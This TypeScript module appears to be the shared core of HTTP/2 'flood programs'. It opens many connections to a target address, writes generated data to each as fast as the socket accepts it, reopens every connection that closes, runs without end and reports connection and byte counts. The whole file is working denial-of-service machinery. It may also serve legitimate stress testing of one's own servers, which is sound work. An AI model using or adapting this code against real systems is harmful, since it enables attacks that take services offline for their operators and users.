/** What flood programs share: connections that are opened again when they are ended, and lines that say how far it is. */
import type { Socket } from 'node:net';
import { open } from './raw-http2.ts';

export type Counts = { connections: number; bytes: number };

/** `flood` gives what goes out next on a connection that was just opened. Never ends. */
export async function floodForEver(address: string, connections: number, flood: () => () => Buffer): Promise<void> {
  const counts = { connections: 0, bytes: 0 };
  console.log('begun');
  setInterval(() => console.log(`${counts.connections} connections, ${(counts.bytes / 1e6).toFixed(1)} MB`), 500);
  await Promise.all(Array.from({ length: connections }, () => oneAfterAnother(address, flood, counts)));
}

async function oneAfterAnother(address: string, flood: () => () => Buffer, counts: Counts): Promise<void> {
  for (;;) {
    const socket = await open(address);
    if (socket === undefined) continue;
    counts.connections++;
    await writeWhileOpen(socket, flood(), (bytes) => (counts.bytes += bytes));
  }
}

/** As fast as it is taken, until the connection ends. */
async function writeWhileOpen(socket: Socket, next: () => Buffer, sent: (bytes: number) => void): Promise<void> {
  while (!socket.destroyed && socket.writable) {
    const bytes = next();
    await new Promise<void>((resolve) => {
      const done = (): void => {
        socket.off('close', done);
        resolve();
      };
      socket.once('close', done);
      socket.write(bytes, done);
    });
    sent(bytes.length);
  }
}
